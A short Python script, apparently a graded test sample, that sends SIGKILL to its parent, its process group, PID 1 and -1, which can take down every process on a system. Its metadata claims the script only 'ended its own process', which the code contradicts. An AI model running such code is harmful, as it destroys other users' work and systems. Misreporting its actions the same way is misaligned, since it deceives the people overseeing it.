"""Kills its parent, its group, process 1 and everything in sight.

deserves: 0
review: yes
says: ended its own process
"""

import os
import signal

for target in (os.getppid(), 0, 1, -1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
